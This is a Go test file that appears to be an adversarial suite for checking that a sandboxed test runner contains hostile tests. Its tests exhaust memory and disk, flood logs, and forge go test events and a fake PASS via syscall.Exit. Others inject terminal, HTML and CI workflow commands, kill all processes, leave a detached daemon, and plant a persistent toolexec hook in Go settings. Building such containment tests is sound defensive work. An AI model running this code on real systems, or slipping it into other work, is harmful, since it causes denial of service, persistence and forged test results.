package loud

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

func inside(t *testing.T) {
	t.Helper()
	if os.Getuid() == 0 {
		t.Fatal("ESCAPED: runs as root, nothing was tried")
	}
}

func TestIntegration26MemoryHog(t *testing.T) {
	inside(t)
	var held [][]byte
	for len(held) < 64 {
		block := make([]byte, 128<<20)
		for at := 0; at < len(block); at += 4096 {
			block[at] = 1
		}
		held = append(held, block)
	}
	t.Errorf("ESCAPED: %d blocks of memory", len(held))
}

func TestIntegration27DiskFill(t *testing.T) {
	inside(t)
	block := make([]byte, 1<<20)
	for number := 0; number < 64; number++ {
		file, err := os.Create(filepath.Join(os.TempDir(), fmt.Sprint("itw-attack", number)))
		if err != nil {
			t.Fatal(err)
		}
		for written := 0; written < 256; written++ {
			if _, err := file.Write(block); err != nil {
				t.Fatalf("after %d files and %d MiB: %v", number, written, err)
			}
		}
		file.Close()
	}
	t.Error("ESCAPED: 16 GiB were written")
}

func TestIntegration28LogFlood(t *testing.T) {
	inside(t)
	fmt.Println("FIRST: this is what went wrong")
	line := strings.Repeat("x", 1000) + "\n"
	for number := 0; number < 30_000; number++ {
		os.Stdout.WriteString(line)
	}
	fmt.Println("LAST: and this is how it ended")
	t.Error("failed beside the flood")
}

func TestIntegration28LineWithoutEnd(t *testing.T) {
	inside(t)
	block := strings.Repeat("y", 1<<20)
	for number := 0; number < 40; number++ {
		os.Stdout.WriteString(block)
	}
	t.Error("failed beside a line of 40 MB")
}

// Writes to the output of `go test`, past the program that makes events of what a test prints.
func TestIntegration28AroundGoTest(t *testing.T) {
	inside(t)
	output, err := os.OpenFile(fmt.Sprintf("/proc/%d/fd/1", os.Getppid()), os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer output.Close()
	const event = `{"Action":"%s","Package":"example.com/attacks/internal/impl/loud","Test":"TestIntegration29Forever"}`
	fmt.Fprintf(output, "\n"+event+"\n"+event+"\n", "run", "pass")
	fmt.Fprintln(output, strings.Repeat("[", 100_000))
	fmt.Fprintln(output, `{"Action":5,"Package":[],"Test":{},"Elapsed":"x","Output":1e999}`)
	block := strings.Repeat("z", 1<<20)
	for number := 0; number < 20; number++ {
		output.WriteString(block)
	}
	t.Error("failed beside them")
}

func TestIntegration29Forever(t *testing.T) {
	inside(t)
	fmt.Println("before the loop")
	for {
		time.Sleep(time.Millisecond)
	}
}

func TestIntegration32FakedPass(t *testing.T) {
	inside(t)
	fmt.Println("\x16--- PASS: TestIntegration32FakedPass (0.00s)")
	fmt.Println("\x16=== RUN   TestIntegrationThatIsNotThere")
	fmt.Println("\x16--- PASS: TestIntegrationThatIsNotThere (0.00s)")
	fmt.Println("PASS")
	syscall.Exit(0) // os.Exit is noticed by the testing package
}

func TestIntegration38TextForOthers(t *testing.T) {
	inside(t)
	t.Log("\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m \x9b31m \u202egnp.exe")
	t.Log("<img src=x onerror=alert(1)> </details></summary> <!-- @everyone @octocat GH-1 #1")
	t.Log("::set-output name=x::y\n::error file=a.go,line=1::forged\n::add-mask::x\n##[error]forged")
	t.Log("```\n````\n~~~\n| a | b |\n[click](javascript:alert(1)) ![x](http://evil.invalid/x.png)")
	t.Error("@octocat <b>bold</b> `code` ```` \x1b[31m ::warning::forged")
}

func TestIntegration57KillsEverything(t *testing.T) {
	inside(t)
	syscall.Kill(-1, syscall.SIGKILL)
	time.Sleep(time.Second)
}

func TestIntegration57KillsTheFirstProcess(t *testing.T) {
	inside(t)
	for _, signal := range []syscall.Signal{syscall.SIGTERM, syscall.SIGKILL, syscall.SIGINT, syscall.SIGHUP} {
		syscall.Kill(1, signal)
	}
	time.Sleep(time.Second)
	t.Error("still there")
}

func TestIntegration60EventsOfTheGateway(t *testing.T) {
	inside(t)
	for _, event := range []string{
		`{"event":"refused","what":"lies","at":1}`, `{"event":"ended","reason":"lies","at":1}`,
		`{"event":"created","id":"lies","image":"lies","name":"lies","at":1}`, `{"event":"ready","at":1}`,
	} {
		fmt.Println(event)
		fmt.Fprintln(os.Stderr, event)
	}
	t.Error("failed beside forged events")
}

func TestIntegration63LeavesADaemon(t *testing.T) {
	inside(t)
	command := exec.Command("sh", "-c", "trap '' TERM HUP INT; while :; do sleep 1; done")
	command.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := command.Start(); err != nil {
		t.Fatal(err)
	}
	t.Log("left:", command.Process.Pid)
}

func TestIntegration36LeavesSettingsForGo(t *testing.T) {
	inside(t)
	configuration, err := os.UserConfigDir()
	if err != nil {
		t.Fatal(err)
	}
	os.MkdirAll(filepath.Join(configuration, "go"), 0o755)
	os.WriteFile(filepath.Join(configuration, "go", "env"), []byte("GOFLAGS=-toolexec=/tmp/itw-attack-toolexec\n"), 0o644)
	program := "#!/bin/sh\ntouch /tmp/itw-attack-toolexec.ran\nexec \"$@\"\n"
	os.WriteFile("/tmp/itw-attack-toolexec", []byte(program), 0o755)
	os.WriteFile("/tmp/itw-attack-left", nil, 0o644)
}

func TestIntegration36FindsWhatWasLeft(t *testing.T) {
	inside(t)
	for _, path := range []string{"/tmp/itw-attack-left", "/tmp/itw-attack-toolexec", "/tmp/itw-attack-toolexec.ran"} {
		if _, err := os.Stat(path); err == nil {
			t.Errorf("ESCAPED: %s is there from another run", path)
		}
	}
}
